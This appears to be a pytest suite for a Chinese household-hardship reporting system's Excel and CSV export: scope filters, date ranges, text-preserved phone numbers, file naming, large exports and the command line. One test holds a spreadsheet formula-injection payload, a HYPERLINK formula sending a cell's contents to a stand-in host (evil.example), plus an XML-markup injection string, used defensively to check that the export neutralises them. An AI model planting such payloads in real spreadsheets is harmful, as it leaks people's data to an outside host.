"""Exporting submissions to Excel and CSV: what a reviewer may take home, read back cell by cell.

Every test taking `db` runs on SQLite and on PostgreSQL.
"""

from __future__ import annotations

import csv
import time
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select

from dialogs.engine import format_value
from dialogs.spec import load_catalog
from review.access import Scope
from review.export import (
    LOCAL_TZ,
    ExportFilter,
    export_file_name,
    export_filter,
    export_submissions,
)
from storage.database import open_database
from storage.models import AuditEntry, StatusChange, Submission
from storage.repository import People
from tests.chat import run_bot
from tests.conftest import store_submission
from tests.dialog_script import REPORT_ANSWERS, VISIT_ANSWERS

ROOT = Path(__file__).resolve().parent.parent
CATALOG = load_catalog()
EVERYTHING = Scope(everything=True)

FIXED_HEADERS = [
    "编号",
    "提交时间",
    "乡镇（街道）",
    "村（社区）",
    "联系人",
    "联系电话",
    "家庭人口",
    "家庭年纯收入（元）",
    "人均纯收入（元）",
    "优先级",
    "优先级理由",
    "状态",
    "最后更新",
    "指派干部",
]
SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# One sheet per dialog, by title (the call-back request's too, empty or not), then the history.
REPORTS, VISITS, CALLBACKS, HISTORY = "困难申报", "入户走访记录", "回电请求", "状态记录"
HISTORY_HEADERS = ["编号", "时间", "操作人", "原状态", "新状态", "备注"]


def local(year: int, month: int, day: int, hour: int = 12, minute: int = 0) -> datetime:
    """A moment given in 北京时间, as the UTC value the database stores."""
    return datetime(year, month, day, hour, minute, tzinfo=LOCAL_TZ).astimezone(UTC)


def change_status(
    db, reference: str, to_status: str, at: datetime, note: str = "", by: int = 9001
) -> None:
    with db.session() as session:
        submission = session.scalar(select(Submission).where(Submission.reference == reference))
        session.add(
            StatusChange(
                submission_id=submission.id,
                changed_by=by,
                changed_at=at,
                from_status=submission.status,
                to_status=to_status,
                note=note,
            )
        )
        submission.status = to_status
        submission.updated_at = at


def read_xlsx(path: Path) -> dict[str, list[tuple]]:
    book = load_workbook(path, read_only=True)
    try:
        return {
            sheet.title: [tuple(row) for row in sheet.iter_rows(values_only=True)] for sheet in book
        }
    finally:
        book.close()


def as_dicts(rows: list[tuple]) -> list[dict]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def first_column_of_sheet(path: Path, member: str) -> list[str]:
    """The text of every row's first cell, scanning the sheet's XML as a stream."""
    values = []
    with zipfile.ZipFile(path) as archive, archive.open(member) as xml:
        for _event, element in ElementTree.iterparse(xml):
            if element.tag == f"{SHEET_NS}row":
                cell = element.find(f"{SHEET_NS}c")
                assert cell is not None, "every row has a first cell"
                values.append("".join(cell.itertext()))
                element.clear()
    return values


def answer_label_of(key: str) -> str:
    for dialog in CATALOG.dialogs.values():
        for step in dialog.steps:
            if step.key == key:
                return step.label
    raise KeyError(key)


def expected_answer(dialog: str, key: str, value):
    if value is None:
        return None
    if isinstance(value, int) and not isinstance(value, bool):
        return value
    return format_value(CATALOG.dialogs[dialog].step(key), value)


def to_local_minute(moment: datetime) -> datetime:
    if moment.tzinfo is None:
        moment = moment.replace(tzinfo=UTC)
    return moment.astimezone(LOCAL_TZ).replace(tzinfo=None, second=0, microsecond=0)


def export(
    db, tmp_path, filters: ExportFilter, fmt: str = "xlsx", name: str = "导出"
) -> tuple[Path, int]:
    out = tmp_path / f"{name}.{fmt}"
    return out, export_submissions(db, CATALOG, filters, out, fmt).count


def submission_rows(sheets: dict[str, list[tuple]]) -> list[dict]:
    """The rows of every dialog's sheet, self-reports first."""
    return as_dicts(sheets[REPORTS]) + as_dicts(sheets[VISITS])


# --- what is exported, and that it is what the database holds --------------------------------


def test_a_reviewer_exports_only_their_townships_and_reads_the_same_data_back(
    db, tmp_path, make_submission
):
    shuiyang = make_submission(created_at=local(2024, 6, 3, 9, 15), assigned_to=8_123_456_789)
    liqiao = make_submission(dialog="visit", created_at=local(2024, 6, 4, 16, 40))
    elsewhere = make_submission(township="孙埠镇", created_at=local(2024, 6, 5))
    change_status(db, liqiao, "核实中", local(2024, 6, 6, 8, 0), note="已电话联系")
    change_status(db, shuiyang, "核实中", local(2024, 6, 7, 10, 0), note="安排入户")
    change_status(db, elsewhere, "核实中", local(2024, 6, 7, 11, 0), note="其他乡镇，不应导出")
    change_status(db, shuiyang, "已纳入监测", local(2024, 6, 9, 14, 30), note="经村民代表评议")

    reviewer = Scope(townships=frozenset({"水阳镇", "狸桥镇"}))
    out, count = export(db, tmp_path, ExportFilter(reviewer))

    assert count == 2
    sheets = read_xlsx(out)
    assert list(sheets) == [REPORTS, VISITS, CALLBACKS, HISTORY]
    for sheet in (REPORTS, VISITS):
        header = list(sheets[sheet][0])
        assert header[: len(FIXED_HEADERS)] == FIXED_HEADERS
        assert len(set(header)) == len(header)
        # No consent, nothing a fixed column already shows (the typed name of an unlisted
        # 乡镇 is in 乡镇（街道））.
        assert not {"同意提供信息", "农户同意记录", "联系人", "家庭人口", "乡镇（街道）名称"} & set(
            header[len(FIXED_HEADERS) :]
        )
    report_headers = list(sheets[REPORTS][0])[len(FIXED_HEADERS) :]
    visit_headers = list(sheets[VISITS][0])[len(FIXED_HEADERS) :]
    # Each sheet has its own dialog's questions only, in the dialog's order.
    assert report_headers[:3] == ["医疗支出（元）", "教育支出（元）", "其他大额必要支出（元）"]
    assert "方便接电话的时间" in report_headers and "户主姓名" not in report_headers
    assert visit_headers[0] == "户主姓名" and "走访备注" in visit_headers
    assert "方便接电话的时间" not in visit_headers

    rows = submission_rows(sheets)
    assert [r["编号"] for r in rows] == [shuiyang, liqiao]
    with db.session() as session:
        stored = {
            s.reference: s
            for s in session.scalars(
                select(Submission).where(Submission.reference.in_([shuiyang, liqiao]))
            )
        }
    for row in rows:
        submission = stored[row["编号"]]
        assert row["提交时间"] == to_local_minute(submission.created_at)
        assert row["最后更新"] == to_local_minute(submission.updated_at)
        assert row["乡镇（街道）"] == submission.township
        assert row["村（社区）"] == submission.village
        assert row["联系人"] == submission.contact_name
        assert row["联系电话"] == submission.phone
        assert row["家庭人口"] == submission.household_size
        assert row["家庭年纯收入（元）"] == submission.annual_income
        assert row["人均纯收入（元）"] == submission.per_capita_income
        assert row["优先级"] == submission.priority
        assert row["优先级理由"] == "；".join(submission.priority_reasons)
        assert row["状态"] == submission.status
        for key, value in submission.answers.items():
            if key in {
                "consent",
                "township",
                "village",
                "contact_name",
                "phone",
                "household_size",
                "annual_income",
            }:
                continue
            assert row[answer_label_of(key)] == expected_answer(submission.dialog, key, value), key

    report, visit = rows
    assert report["提交时间"] == datetime(2024, 6, 3, 9, 15)  # 北京时间, not UTC
    assert report["状态"] == "已纳入监测" and visit["状态"] == "核实中"
    assert report["指派干部"] == "8123456789" and visit["指派干部"] is None
    assert report["家庭年纯收入（元）"] == 32000 and report["人均纯收入（元）"] == 8000
    assert report["医疗支出（元）"] == 8000  # a number, not "8,000"
    assert report["其他大额必要支出（元）"] == 0
    assert report["教育支出（元）"] is None and report["情况说明"] is None
    assert report["困难原因"] == "因病、缺劳动力"
    assert report["住房安全"] == "有安全隐患" and report["吃水情况"] == "吃水没问题"
    assert visit["户主姓名"] == "李四" and visit["面临的重大风险隐患"] == "季节性缺水"
    assert visit["已标注“风险消除”"] == "是"

    history = as_dicts(sheets[HISTORY])
    assert list(sheets[HISTORY][0]) == HISTORY_HEADERS
    assert [(h["编号"], h["新状态"]) for h in history] == [
        (shuiyang, "核实中"),
        (shuiyang, "已纳入监测"),
        (liqiao, "核实中"),
    ]
    first = history[0]
    assert first["时间"] == datetime(2024, 6, 7, 10, 0)
    assert first["操作人"] == "9001" and first["原状态"] == "待核实" and first["备注"] == "安排入户"
    assert "其他乡镇，不应导出" not in {h["备注"] for h in history}


def test_the_workbook_has_a_bold_frozen_header_and_readable_column_widths(
    db, tmp_path, make_submission
):
    make_submission()
    out, _ = export(db, tmp_path, ExportFilter(EVERYTHING))
    book = load_workbook(out)
    sheet = book[REPORTS]
    assert sheet.freeze_panes == "A2" and book[VISITS].freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["A"].width >= 10
    assert sheet.column_dimensions["K"].width >= 30  # 优先级理由
    assert book[HISTORY].freeze_panes == "A2"
    assert sheet["B2"].number_format == "yyyy-mm-dd hh:mm"


def test_township_and_local_date_range_narrow_the_export(db, tmp_path, make_submission):
    just_before = make_submission(created_at=local(2024, 5, 31, 23, 50))
    first_minute = make_submission(created_at=local(2024, 6, 1, 0, 30))  # 2024-05-31 in UTC
    other_township = make_submission(township="水东镇", created_at=local(2024, 6, 10))
    last_minute = make_submission(created_at=local(2024, 6, 30, 23, 59))
    next_month = make_submission(created_at=local(2024, 7, 1, 0, 0))

    june = ExportFilter(EVERYTHING, since=date(2024, 6, 1), until=date(2024, 6, 30))
    out, count = export(db, tmp_path, june, name="june")
    rows = as_dicts(read_xlsx(out)[REPORTS])
    assert count == 3
    assert [r["编号"] for r in rows] == [first_minute, other_township, last_minute]
    assert rows[0]["提交时间"] == datetime(2024, 6, 1, 0, 30)

    out, count = export(
        db,
        tmp_path,
        ExportFilter(EVERYTHING, township="水阳镇", since=date(2024, 6, 1)),
        name="shuiyang",
    )
    assert [r["编号"] for r in as_dicts(read_xlsx(out)[REPORTS])] == [
        first_minute,
        last_minute,
        next_month,
    ]

    out, count = export(db, tmp_path, ExportFilter(EVERYTHING, until=date(2024, 5, 31)), name="may")
    assert [r["编号"] for r in as_dicts(read_xlsx(out)[REPORTS])] == [just_before]

    # A township filter never widens a scope: a reviewer of 水东镇 asking for 水阳镇 gets nothing.
    narrow = ExportFilter(Scope(townships=frozenset({"水东镇"})), township="水阳镇")
    out, count = export(db, tmp_path, narrow, name="nothing")
    assert count == 0
    assert len(read_xlsx(out)[REPORTS]) == 1  # the header only


def test_a_cadre_exports_the_households_they_recorded_and_a_stranger_nothing(
    db, tmp_path, make_submission
):
    mine = make_submission(dialog="visit", submitted_by=555)
    theirs = make_submission(dialog="visit", submitted_by=556)
    change_status(db, theirs, "核实中", local(2024, 6, 6))

    out, count = export(db, tmp_path, ExportFilter(Scope(recorded_by=555)), name="cadre")
    sheets = read_xlsx(out)
    assert count == 1
    assert [r["编号"] for r in as_dicts(sheets[VISITS])] == [mine]
    assert sheets[REPORTS] == [sheets[REPORTS][0]]  # the header only
    assert sheets[HISTORY] == [tuple(HISTORY_HEADERS)]

    out, count = export(db, tmp_path, ExportFilter(Scope()), name="stranger")
    assert count == 0
    assert len(read_xlsx(out)[REPORTS]) == 1  # the header only


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_the_csv_export_writes_one_file_per_sheet_and_says_what_the_workbook_says(
    db, tmp_path, make_submission
):
    first = make_submission(created_at=local(2024, 6, 3, 9, 15))
    second = make_submission(dialog="visit", created_at=local(2024, 6, 4))
    change_status(db, first, "核实中", local(2024, 6, 5, 10, 0), note="已联系，本周入户")
    change_status(db, second, "不予纳入", local(2024, 6, 6, 10, 0), note="收入高于监测线")

    xlsx, _ = export(db, tmp_path, ExportFilter(EVERYTHING))
    out = tmp_path / "导出.csv"
    exported = export_submissions(db, CATALOG, ExportFilter(EVERYTHING), out, "csv")
    assert exported.count == 2
    assert exported.files == [
        tmp_path / "导出_困难申报.csv",
        tmp_path / "导出_入户走访记录.csv",
        tmp_path / "导出_回电请求.csv",
        tmp_path / "导出_状态记录.csv",
    ]
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["导出.xlsx", *(p.name for p in exported.files)]
    )

    def as_text(value) -> str:
        if value is None:
            return ""
        if isinstance(value, datetime):
            return value.strftime("%Y-%m-%d %H:%M")
        return str(value)

    workbook = read_xlsx(xlsx)
    for path, sheet in zip(exported.files, (REPORTS, VISITS, CALLBACKS, HISTORY), strict=True):
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
        rows = [[cell.strip() for cell in row] for row in read_csv(path)]  # see phones below
        assert rows == [[as_text(v) for v in row] for row in workbook[sheet]]
    reports = read_csv(exported.files[0])
    assert reports[1][:4] == [first, "2024-06-03 09:15", "水阳镇", "红星村"]
    assert read_csv(exported.files[3])[2] == [
        second,
        "2024-06-06 10:00",
        "\t9001",  # an id: text to Excel too
        "待核实",
        "不予纳入",
        "收入高于监测线",
    ]


def test_phones_and_ids_stay_text_in_excel_and_in_csv(db, tmp_path, make_submission):
    make_submission(phone="13812345678", assigned_to=8_123_456_789_012)
    make_submission(dialog="visit", phone="0563-2701280")

    xlsx, _ = export(db, tmp_path, ExportFilter(EVERYTHING))
    book = load_workbook(xlsx)
    for sheet, phone in ((REPORTS, "13812345678"), (VISITS, "0563-2701280")):
        headers = [c.value for c in book[sheet][1]]
        cell = book[sheet].cell(row=2, column=headers.index("联系电话") + 1)
        assert cell.value == phone and cell.data_type == "s"
    headers = [c.value for c in book[REPORTS][1]]
    cadre = book[REPORTS].cell(row=2, column=headers.index("指派干部") + 1)
    assert cadre.value == "8123456789012" and cadre.data_type == "s"

    exported = export_submissions(db, CATALOG, ExportFilter(EVERYTHING), tmp_path / "x.csv", "csv")
    header, row = read_csv(exported.files[0])
    # A tab before a cell of digits makes Excel keep it as text (no 1.38123E+10, no lost
    # leading zero); other readers get the digits back with strip().
    assert row[header.index("联系电话")] == "\t13812345678"
    assert row[header.index("指派干部")] == "\t8123456789012"
    header, row = read_csv(exported.files[1])
    assert row[header.index("联系电话")] == "0563-2701280"  # not a number to Excel anyway


def test_operator_and_cadre_columns_show_names_with_ids(db, tmp_path, make_submission):
    People(db).remember(9001, "王芳", None)
    People(db).remember(8123, "李村干", "li_cadre")
    reference = make_submission(assigned_to=8123)
    change_status(db, reference, "核实中", local(2024, 6, 5), note="入户", by=9001)
    make_submission(assigned_to=8124)  # a cadre who never wrote to the bot: the id
    sheets = read_xlsx(export(db, tmp_path, ExportFilter(EVERYTHING))[0])
    assert [r["指派干部"] for r in as_dicts(sheets[REPORTS])] == ["李村干（8123）", "8124"]
    assert as_dicts(sheets[HISTORY])[0]["操作人"] == "王芳（9001）"


def test_an_export_file_name_says_scope_dates_and_beijing_time():
    moment = datetime(2024, 10, 5, 6, 32, tzinfo=UTC)  # 14:32 in Beijing
    september = export_filter(EVERYTHING, CATALOG, "水阳镇", "2024-09-01", "2024-09-30")
    assert (
        export_file_name(september, "xlsx", moment)
        == "防返贫申报_水阳镇_20240901-20240930_导出于20241005-1432.xlsx"
    )
    assert export_file_name(ExportFilter(EVERYTHING), "xlsx", moment) == (
        "防返贫申报_全区_全部时间_导出于20241005-1432.xlsx"
    )
    reviewer = ExportFilter(
        Scope(townships=frozenset({"水阳镇", "狸桥镇"})), since=date(2024, 9, 1)
    )
    assert export_file_name(reviewer, "csv", moment) == (
        "防返贫申报_水阳镇+狸桥镇_20240901起_导出于20241005-1432.csv"
    )
    cadre = ExportFilter(Scope(recorded_by=5), until=date(2024, 9, 30))
    assert (
        export_file_name(cadre, "xlsx", moment)
        == "防返贫申报_本人记录_至20240930_导出于20241005-1432.xlsx"
    )


def test_two_exports_with_different_filters_in_chat_get_different_file_names(
    kb, db, make_submission
):
    from assistant.service import Assistant
    from tests.chat import discard, say

    make_submission()
    assistant = Assistant(kb, db, admin_ids=frozenset({1}))
    names = []
    for command in ("/export", "/export 水阳镇 2024-09-01 2024-09-30"):
        (reply,) = discard(say(assistant, 1, command))
        assert reply.filename is not None and reply.document is not None
        assert reply.filename == reply.document.name
        names.append(reply.filename)
    assert names[0].startswith("防返贫申报_全区_全部时间_导出于")
    assert names[1].startswith("防返贫申报_水阳镇_20240901-20240930_导出于")


def test_text_that_looks_like_a_formula_stays_text(db, tmp_path, make_submission):
    attack = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")'
    answers = {"description": "+86 电话联系；@村委会", "causes_other": "-1+1"}
    reference = make_submission(answers=answers, contact_name=attack)
    change_status(db, reference, "核实中", local(2024, 6, 5), note="=1+1")
    markup = make_submission(
        contact_name="<r>李</r>",
        answers={"description": '<r><t>x</t></r></is></c><c r="A9"><f>1+1</f></c><is><r>'},
    )

    xlsx, _ = export(db, tmp_path, ExportFilter(EVERYTHING))
    book = load_workbook(xlsx)
    sheet = book[REPORTS]
    headers = [c.value for c in sheet[1]]
    name = sheet.cell(row=2, column=headers.index("联系人") + 1)
    assert name.value == attack and name.data_type == "s"
    description = sheet.cell(row=2, column=headers.index("情况说明") + 1)
    assert description.value == "+86 电话联系；@村委会" and description.data_type == "s"
    note = book[HISTORY]["F2"]
    assert note.value == "=1+1" and note.data_type == "s"
    assert not any(cell.data_type == "f" for ws in book for row in ws.iter_rows() for cell in row)
    # Text shaped like xlsxwriter's pre-built rich text is stored as typed, not as markup.
    third = [c.value for c in sheet[3]]
    assert third[0] == markup and third[headers.index("联系人")] == "<r>李</r>"
    description_text = third[headers.index("情况说明")]
    assert isinstance(description_text, str)
    assert description_text.startswith("<r><t>x</t></r></is></c>")
    assert sheet.max_row == 3

    out = tmp_path / "导出.csv"
    reports, _, _, history = export_submissions(
        db, CATALOG, ExportFilter(EVERYTHING), out, "csv"
    ).files
    header, row, _ = read_csv(reports)
    assert row[header.index("联系人")] == "'" + attack
    assert row[header.index("情况说明")] == "'+86 电话联系；@村委会"
    assert row[header.index("其他原因")] == "'-1+1"
    assert row[header.index("联系电话")] == "\t13812345678"
    assert read_csv(history)[1][-1] == "'=1+1"


def test_ten_thousand_rows_stream_out_with_progress(db, tmp_path):
    total = 10_000
    base = datetime(2024, 6, 1, tzinfo=UTC)
    rows: list[dict[str, Any]] = [
        {
            "reference": f"B{i:07d}",
            "dialog": "report" if i % 3 else "visit",
            "draft_id": f"b{i:09d}",
            "submitted_by": 1000 + i % 50,
            "township": ("水阳镇", "狸桥镇", "孙埠镇")[i % 3],
            "village": "红星村",
            "contact_name": f"户主{i}",
            "phone": "13812345678",
            "household_size": 1 + i % 6,
            "annual_income": 10_000 + i,
            "per_capita_income": (10_000 + i) // (1 + i % 6),
            "priority": "一般",
            "priority_reasons": [],
            "answers": REPORT_ANSWERS if i % 3 else VISIT_ANSWERS,
            "status": "待核实",
            "created_at": base + timedelta(minutes=i),
            "updated_at": base + timedelta(minutes=i),
        }
        for i in range(total)
    ]
    with db.session() as session:
        session.execute(insert(Submission), rows)
        ids = session.scalars(select(Submission.id).order_by(Submission.id).limit(2)).all()
        session.execute(
            insert(StatusChange),
            [
                {
                    "submission_id": ids[0],
                    "changed_by": 1,
                    "changed_at": base,
                    "from_status": "待核实",
                    "to_status": "核实中",
                    "note": "",
                },
            ],
        )

    seen: list[int] = []
    out = tmp_path / "big.xlsx"
    started = time.perf_counter()
    count = export_submissions(
        db, CATALOG, ExportFilter(EVERYTHING), out, progress=seen.append
    ).count
    elapsed = time.perf_counter() - started

    assert count == total
    assert seen == sorted(seen) and seen[-1] == total and len(seen) >= 10
    visit_count = len(range(0, total, 3))  # every third household is a visit
    book = load_workbook(out, read_only=True)
    for sheet, expected in ((book[REPORTS], total - visit_count), (book[VISITS], visit_count)):
        header = next(sheet.iter_rows(max_row=1, values_only=True))
        assert list(header[: len(FIXED_HEADERS)]) == FIXED_HEADERS
        assert sheet.max_row == expected + 1
    assert [r[0] for r in book[HISTORY].iter_rows(values_only=True)] == ["编号", "B0000000"]
    book.close()
    # Every row really is there, in id order (a raw scan: openpyxl would take seconds).
    reports = first_column_of_sheet(out, "xl/worksheets/sheet1.xml")[1:]
    visited = first_column_of_sheet(out, "xl/worksheets/sheet2.xml")[1:]
    assert sorted(reports + visited) == [f"B{i:07d}" for i in range(total)]
    assert reports == sorted(reports) and visited == sorted(visited)
    assert visited[0] == "B0000000" and reports[0] == "B0000001"
    assert elapsed < 15, f"exporting {total} rows took {elapsed:.1f} s"


def test_a_failed_export_leaves_no_file_behind(db, tmp_path, make_submission):
    make_submission()

    def interrupted(_done: int) -> None:
        raise KeyboardInterrupt

    for fmt in ("xlsx", "csv"):
        out = tmp_path / f"half.{fmt}"
        with pytest.raises(KeyboardInterrupt):
            export_submissions(
                db, CATALOG, ExportFilter(EVERYTHING), out, fmt, progress=interrupted
            )
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(ValueError, match="pdf"):
        export_submissions(db, CATALOG, ExportFilter(EVERYTHING), tmp_path / "x.pdf", "pdf")


# --- the command line ---------------------------------------------------------------------------


@pytest.fixture
def server(tmp_path) -> tuple[str, list[str]]:
    """The SQLite database the operator exports from (its URL), and its three households: in
    水阳镇 in June and July, and in 狸桥镇 in June."""
    url = f"sqlite:///{tmp_path / 'server.db'}"
    db = open_database(url)
    references = [
        store_submission(db, created_at=local(2024, 6, 3)),
        store_submission(db, created_at=local(2024, 7, 3)),
        store_submission(db, township="狸桥镇", created_at=local(2024, 6, 3)),
    ]
    db.engine.dispose()
    return url, references


def test_the_operator_exports_one_township_and_month_from_the_command_line(
    tmp_path, server, bot_cli
):
    url, (shuiyang_in_june, _, _) = server
    out = tmp_path / "水阳镇六月.xlsx"
    result = bot_cli(
        "export",
        "--format",
        "xlsx",
        "--out",
        str(out),
        "--township",
        "水阳镇",
        "--since",
        "2024-06-01",
        "--until",
        "2024-06-30",
        env={"DATABASE_URL": url},
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"已导出 1 条记录到 {out}"
    assert "Traceback" not in result.stderr
    assert [r["编号"] for r in as_dicts(read_xlsx(out)[REPORTS])] == [shuiyang_in_june]


def test_the_operator_exports_everything_to_csv_and_the_export_is_audited(
    tmp_path, server, bot_cli
):
    url, _ = server
    out = tmp_path / "全部.csv"
    result = bot_cli("export", "--format", "csv", "--out", str(out), env={"DATABASE_URL": url})
    assert result.returncode == 0, result.stderr
    files = [tmp_path / f"全部_{sheet}.csv" for sheet in (REPORTS, VISITS, CALLBACKS, HISTORY)]
    assert result.stdout.splitlines() == ["已导出 3 条记录到：", *(f"  {f}" for f in files)]
    assert all(f.read_bytes().startswith(b"\xef\xbb\xbf") for f in files)
    assert not out.exists()
    db = open_database(url)
    with db.session() as session:
        (entry,) = session.scalars(select(AuditEntry)).all()
    db.engine.dispose()
    assert entry.action == "export" and str(out) in (entry.detail or "")


@pytest.mark.parametrize(
    ("option", "value"), [("--since", "2024-13-01"), ("--until", "昨天"), ("--since", "2024/06/01")]
)
def test_a_bad_date_gets_one_chinese_line_naming_the_option(tmp_path, bot_cli, option, value):
    out = tmp_path / "x.xlsx"
    result = bot_cli(
        "export",
        "--format",
        "xlsx",
        "--out",
        str(out),
        option,
        value,
        env={"DATABASE_URL": f"sqlite:///{tmp_path / 'server.db'}"},
    )
    assert result.returncode == 2
    message = result.stderr.strip()
    assert "\n" not in message and "Traceback" not in message
    assert option in message and value in message and "日期" in message
    assert sorted(p.name for p in tmp_path.iterdir()) == [], "no file, not even the database"


def test_dates_in_the_wrong_order_or_a_missing_folder_are_refused_in_one_line(tmp_path, bot_cli):
    env = {"DATABASE_URL": f"sqlite:///{tmp_path / 'server.db'}"}
    backwards = bot_cli(
        "export",
        "--format",
        "csv",
        "--out",
        str(tmp_path / "x.csv"),
        "--since",
        "2024-07-01",
        "--until",
        "2024-06-01",
        env=env,
    )
    nowhere = bot_cli("export", "--format", "csv", "--out", str(tmp_path / "no" / "x.csv"), env=env)
    for result, option in ((backwards, "--since"), (nowhere, "--out")):
        assert result.returncode == 2
        assert option in result.stderr and "\n" not in result.stderr.strip()
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_the_operator_exports_into_a_folder_and_the_file_is_named_by_scope_and_dates(
    tmp_path, server, bot_cli
):
    url, _ = server
    folder = tmp_path / "exports"
    folder.mkdir()
    args = ("export", "--format", "xlsx", "--out", str(folder), "--township", "狸桥镇")
    result = bot_cli(*args, env={"DATABASE_URL": url})
    assert result.returncode == 0, result.stderr
    (written,) = folder.iterdir()
    assert written.name.startswith("防返贫申报_狸桥镇_全部时间_导出于")
    assert result.stdout.strip() == f"已导出 1 条记录到 {written}"


def test_an_operator_who_forgets_the_output_file_is_told_it_is_required(tmp_path, bot_cli):
    result = bot_cli("export", "--format", "xlsx")
    assert result.returncode == 2
    assert "--out" in result.stderr and "Traceback" not in result.stderr


def test_a_refused_export_exits_with_status_2_from_the_real_command(tmp_path):
    """The exit status a shell script sees is the one `bot.main` returns (run as a process)."""
    out = tmp_path / "x.xlsx"
    result = run_bot(
        "export",
        "--format",
        "xlsx",
        "--out",
        str(out),
        "--until",
        "昨天",
        env={"DATABASE_URL": f"sqlite:///{tmp_path / 'server.db'}"},
    )
    assert result.returncode == 2
    assert result.stderr.strip().count("\n") == 0 and "--until" in result.stderr
    assert not out.exists()


def test_amounts_given_roughly_are_numbers_with_the_estimate_named_beside_them(
    db, tmp_path, make_submission
):
    answers = dict(
        REPORT_ANSWERS,
        annual_income=80000,
        medical_expense=50000,
        _approximate=["annual_income", "medical_expense"],
    )
    make_submission(answers=answers, annual_income=80000)
    out, _ = export(db, tmp_path, ExportFilter(EVERYTHING))
    (row,) = as_dicts(read_xlsx(out)[REPORTS])
    assert row["家庭年纯收入（元）"] == 80000 and row["医疗支出（元）"] == 50000
    assert row["按估计填写的金额"] == "家庭年纯收入（元）、医疗支出（元）"
